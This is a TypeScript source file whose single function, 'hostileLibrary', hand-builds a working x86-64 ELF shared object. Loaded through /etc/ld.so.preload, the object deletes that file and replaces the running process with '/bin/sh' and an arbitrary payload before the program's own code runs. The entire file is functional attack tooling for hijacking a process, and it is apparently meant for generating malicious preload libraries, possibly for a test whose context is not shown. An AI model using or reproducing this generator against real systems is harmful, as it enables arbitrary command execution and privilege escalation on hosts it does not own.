/**
 * A shared object for x86-64 without a compiler. Loaded into a process (by /etc/ld.so.preload, for example) it removes
 * that file, so that only one process is taken, and turns the process into `/bin/sh payload`, before its own program
 * has run an instruction.
 */
export function hostileLibrary (payload: string, preload = '/etc/ld.so.preload'): Buffer {
  const codeAt = 0x400
  const strings = ['/bin/sh', payload, preload].map((text) => Buffer.from(`${text}\0`))
  const stringsAt = codeAt + 0x80
  const offsets = strings.map((_text, index) => stringsAt + Buffer.concat(strings.slice(0, index)).length)
  let code: number[] = []
  const lea = (opcode: number[], target: number) => {
    const next = codeAt + code.length + opcode.length + 4
    code = [...code, ...opcode, ...int32(target - next)]
  }
  lea([0x48, 0x8d, 0x3d], offsets[2]!) // lea rdi, preload
  code.push(0xb8, ...int32(87), 0x0f, 0x05) // unlink
  code.push(0x85, 0xc0, 0x75, 0) // test eax, eax; jnz done
  const jump = code.length
  lea([0x48, 0x8d, 0x3d], offsets[0]!) // lea rdi, shell
  lea([0x48, 0x8d, 0x05], offsets[1]!) // lea rax, payload
  // push 0; push rax; push rdi; mov rsi, rsp; xor edx, edx
  code.push(0x6a, 0, 0x50, 0x57, 0x48, 0x89, 0xe6, 0x31, 0xd2)
  code.push(0xb8, ...int32(59), 0x0f, 0x05) // execve
  code.push(0x48, 0x83, 0xc4, 24) // add rsp, 24
  code[jump - 1] = code.length - jump
  code.push(0xc3) // done: ret

  const file = Buffer.alloc(stringsAt + Buffer.concat(strings).length)
  Buffer.from('7f454c460201010000000000000000000300' + '3e0001000000', 'hex').copy(file)
  file.writeBigUInt64LE(64n, 32) // program headers
  file.writeUInt16LE(64, 52)
  file.writeUInt16LE(56, 54)
  file.writeUInt16LE(3, 56)
  const dynamicAt = 0x200
  const [symbolsAt, hashAt, namesAt] = [0x300, 0x320, 0x340]
  const dynamic = [[12, codeAt], [4, hashAt], [5, namesAt], [6, symbolsAt], [10, 1], [11, 24], [0, 0]]
  const headers = [[1, 7, 0, file.length], [2, 6, dynamicAt, dynamic.length * 16], [0x6474e551, 6, 0, 0]]
  for (const [index, [type, flags, offset, size]] of headers.entries()) {
    const at = 64 + index * 56
    file.writeUInt32LE(type!, at)
    file.writeUInt32LE(flags!, at + 4)
    for (const field of [8, 16, 24]) file.writeBigUInt64LE(BigInt(offset!), at + field)
    for (const field of [32, 40]) file.writeBigUInt64LE(BigInt(size!), at + field)
    file.writeBigUInt64LE(type === 1 ? 0x1000n : 8n, at + 48)
  }
  for (const [index, entry] of dynamic.entries()) {
    for (const [field, value] of entry.entries()) {
      file.writeBigUInt64LE(BigInt(value), dynamicAt + index * 16 + field * 8)
    }
  }
  file.writeUInt32LE(1, hashAt)
  file.writeUInt32LE(1, hashAt + 4)
  Buffer.from(code).copy(file, codeAt)
  Buffer.concat(strings).copy(file, stringsAt)
  return file
}

function int32 (value: number): number[] {
  const bytes = Buffer.alloc(4)
  bytes.writeInt32LE(value)
  return [...bytes]
}
